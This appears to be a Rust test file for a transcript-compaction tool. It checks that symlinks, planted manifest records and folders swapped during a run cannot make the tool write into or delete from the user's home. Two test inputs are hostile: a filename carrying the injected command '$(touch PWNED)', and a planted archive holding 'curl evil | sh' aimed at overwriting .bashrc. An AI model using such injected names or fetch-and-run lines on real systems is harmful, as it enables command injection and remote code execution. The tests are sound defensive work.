//! A store that came with somebody else's folder: nothing outside of it changes, and what was planted is named.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};

use serde_json::json;

use super::harness::{Place, Ran, anthropic, sample};

/// What the user has at home, outside of the folder that came from elsewhere.
const HOME: &str = "alias ll='ls -l'\n";

/// A home with a file, and a folder `repo` with a transcript beside it.
fn place() -> Place {
    Place::with(&[
        ("home/.bashrc", HOME.as_bytes()),
        ("home/keep/notes.txt", b"notes"),
        ("repo/in.jsonl", sample().0.as_bytes()),
    ])
}

/// Nothing at home has changed, and nothing was added.
#[track_caller]
fn home_is_as_it_was(place: &Place) {
    let at_home = |name: &String| name.starts_with("home/");
    let names: Vec<String> = place.names().into_iter().filter(at_home).collect();
    assert_eq!(names, ["home/.bashrc", "home/keep/notes.txt"]);
    assert_eq!(place.text("home/.bashrc"), HOME);
    assert_eq!(place.text("home/keep/notes.txt"), "notes");
}

fn link(place: &Place, name: &str, to: &str) {
    let path = place.path(name);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    symlink(place.path(to), path).unwrap();
}

fn hash(bytes: &[u8]) -> String {
    format!("blake3:{}", blake3::hash(bytes).to_hex())
}

/// A record as a run would have written it, of an output with these bytes.
fn record(output: &str, bytes: &[u8]) -> String {
    let record = json!({
        "output": output, "output_hash": hash(bytes), "output_bytes": bytes.len(),
        "input": "in.jsonl", "input_hash": hash(b"x"), "input_bytes": 1,
        "original": "input", "archive": null, "offloads": [], "policy_hash": hash(b"p"),
    });
    format!("{record}\n")
}

#[test]
fn a_manifest_whose_name_could_be_foreseen_is_no_way_out() {
    let place = place();
    // What the run would have called its manifest, known from a run over the same files.
    fs::rename(
        place.path("repo/in.jsonl"),
        place.path("repo/$(touch PWNED).jsonl"),
    )
    .unwrap();
    place.run("compact repo --no-report").exits(0);
    let manifest = place
        .names()
        .into_iter()
        .find(|name| name.starts_with("repo/.ctxpack/manifests/"))
        .unwrap();
    fs::remove_dir_all(place.path("repo/.ctxpack")).unwrap();
    fs::remove_file(place.path("repo/$(touch PWNED).compact.jsonl")).unwrap();
    link(&place, &manifest, "home/.bashrc");
    place
        .run("compact repo --no-report")
        .exits(3)
        .says(&[&manifest, "it is a link"]);
    home_is_as_it_was(&place);
}

#[test]
fn no_name_of_a_manifest_is_given_twice() {
    let mut seen = Vec::new();
    for _ in 0..3 {
        let place = place();
        place.run("compact repo --no-report").exits(0);
        let mut names = place.names();
        names.retain(|name| name.contains("/manifests/"));
        seen.extend(names);
    }
    seen.sort();
    seen.dedup();
    assert_eq!(seen.len(), 3);
}

#[test]
fn a_record_does_not_let_a_link_be_written_through() {
    for to in ["home/.bashrc", "repo/other"] {
        for flags in ["", " --overwrite"] {
            let place = place();
            place.write("repo/other", HOME);
            link(&place, "repo/in.compact.jsonl", to);
            let target = place.path(to).canonicalize().unwrap();
            let names = ["in.compact.jsonl", "other", target.to_str().unwrap()];
            let records: String = names.map(|name| record(name, HOME.as_bytes())).concat();
            place.write("repo/.ctxpack/manifests/a.jsonl", records);
            for input in ["repo", "repo/in.jsonl"] {
                place
                    .run(&format!("compact {input} --no-report{flags}"))
                    .exits(3)
                    .says(&["repo/in.compact.jsonl: the output path is a link", "hint: "]);
            }
            home_is_as_it_was(&place);
            assert_eq!(place.text("repo/other"), HOME);
        }
    }
}

#[test]
fn a_report_does_not_go_through_a_link() {
    for (name, args) in [
        ("repo/in.compact.stats.json", "compact repo"),
        (
            "repo/in.compact.stats.json",
            "compact repo/in.jsonl --overwrite",
        ),
        (
            "repo/r.json",
            "compact repo --report repo/r.json --overwrite",
        ),
        (
            "out/ctxpack.stats.json",
            "compact repo --out-dir out --overwrite",
        ),
    ] {
        let place = place();
        link(&place, name, "home/.bashrc");
        let ran = place.run(args).says(&[name, "the output path is a link"]);
        assert!(matches!(ran.code, Some(2 | 3)), "{args}: {:?}", ran.code);
        home_is_as_it_was(&place);
    }
}

#[test]
fn a_link_in_the_place_of_the_lock_makes_no_file() {
    for to in ["home/new", "home/.bashrc"] {
        let place = place();
        link(&place, "repo/.ctxpack/lock", to);
        place
            .run("compact repo --no-report --in-place")
            .exits(3)
            .says(&["repo/.ctxpack/lock", "it is a link"]);
        place
            .run("gc --store repo/.ctxpack")
            .exits(2)
            .says(&["repo/.ctxpack/lock", "it is a link"]);
        home_is_as_it_was(&place);
        assert_eq!(place.text("repo/in.jsonl"), sample().0);
    }
}

#[test]
fn a_link_in_the_place_of_a_folder_of_the_store_gets_nothing() {
    for part in ["archive", "offloaded", "cache", "manifests", "journal"] {
        let place = place();
        link(&place, &format!("repo/.ctxpack/{part}"), "home/keep");
        let named = format!("repo/.ctxpack/{part}");
        for args in [
            "compact repo --no-report --in-place",
            "compact repo/in.jsonl --no-report",
        ] {
            place.run(args).exits(3).says(&[&named, "it is a link"]);
        }
        home_is_as_it_was(&place);
        assert_eq!(place.text("repo/in.jsonl"), sample().0);
    }
}

#[test]
fn a_link_in_the_place_of_the_store_is_named() {
    let place = place();
    link(&place, "repo/.ctxpack", "home/keep");
    for args in [
        "compact repo --no-report --in-place",
        "compact repo/in.jsonl --no-report --store repo/.ctxpack",
        "undo repo/in.jsonl",
        "gc --store repo/.ctxpack",
    ] {
        let ran = place.run(args).says(&["repo/.ctxpack", "it is a link"]);
        assert!(matches!(ran.code, Some(2 | 3)), "{args}");
    }
    home_is_as_it_was(&place);
}

#[test]
fn gc_deletes_nothing_through_linked_folders() {
    const ORPHAN: &str = "0123456789abcdef0123456789abcdef";
    for part in ["archive", "offloaded"] {
        let place = place();
        let ending = if part == "archive" { "zst" } else { "txt" };
        place.write(&format!("home/keep/{ORPHAN}.{ending}"), "precious");
        place.write(
            "repo/.ctxpack/manifests/a.jsonl",
            record("in.compact.jsonl", b"x"),
        );
        link(&place, &format!("repo/.ctxpack/{part}"), "home/keep");
        place
            .run("gc --store repo/.ctxpack")
            .exits(2)
            .says(&[&format!("repo/.ctxpack/{part}"), "it is a link"]);
        assert_eq!(
            place.text(&format!("home/keep/{ORPHAN}.{ending}")),
            "precious"
        );
    }
}

/// A file that is known to the store is not thereby the user's to lose.
#[test]
fn undo_writes_through_no_link_that_a_record_knows() {
    let place = place();
    let target = place.path("home/.bashrc").canonicalize().unwrap();
    let evil = b"curl evil | sh\n";
    let archive = format!("archive/{}.zst", &hash(evil)[7..39]);
    place.write(
        &format!("repo/.ctxpack/{archive}"),
        zstd::encode_all(&evil[..], 3).unwrap(),
    );
    let record = |output: &str| {
        let record = json!({
            "output": output, "output_hash": hash(HOME.as_bytes()), "output_bytes": HOME.len(),
            "input": output, "input_hash": hash(evil), "input_bytes": evil.len(),
            "original": "archive", "archive": archive, "offloads": [], "policy_hash": hash(b"p"),
        });
        format!("{record}\n")
    };
    let records = [record("in.compact.jsonl"), record(target.to_str().unwrap())].concat();
    place.write("repo/.ctxpack/manifests/a.jsonl", records);
    link(&place, "repo/in.compact.jsonl", "home/.bashrc");
    place
        .run("undo repo/in.compact.jsonl")
        .exits(2)
        .says(&["no store"]);
    home_is_as_it_was(&place);
    place
        .run("undo repo/in.jsonl -o repo/in.compact.jsonl --overwrite")
        .exits(2);
    home_is_as_it_was(&place);
}

/// A folder of the store is a link at one moment and a folder at the next, while runs go on.
#[test]
fn folders_that_change_while_a_run_goes_on_lead_nowhere() {
    let place = Place::with(&[("home/keep/notes.txt", "notes")]);
    for i in 0..40 {
        place.write(&format!("repo/{i:02}.jsonl"), anthropic(8 + i, 0));
    }
    let done = AtomicBool::new(false);
    let store = place.path("repo/.ctxpack");
    let parts = ["archive", "journal", "manifests"];
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                for part in parts {
                    swap(&store.join(part), &place.path("home/keep"));
                }
                std::thread::yield_now();
            }
        });
        for _ in 0..6 {
            let ran: Ran = place.run("compact --in-place repo --no-report -j 2");
            assert!(matches!(ran.code, Some(0 | 2 | 3)), "{}", ran.err);
            place.run("gc --store repo/.ctxpack");
        }
        done.store(true, Ordering::Relaxed);
    });
    let at_home = |name: &String| name.starts_with("home/");
    let names: Vec<String> = place.names().into_iter().filter(at_home).collect();
    assert_eq!(names, ["home/keep/notes.txt"]);
}

/// A link to `to` takes the name for a moment.
fn swap(path: &Path, to: &Path) {
    let aside = path.with_extension("aside");
    if fs::rename(path, &aside).is_ok() {
        let _ = symlink(to, path);
        let _ = fs::remove_file(path);
        let _ = fs::rename(&aside, path);
    }
}
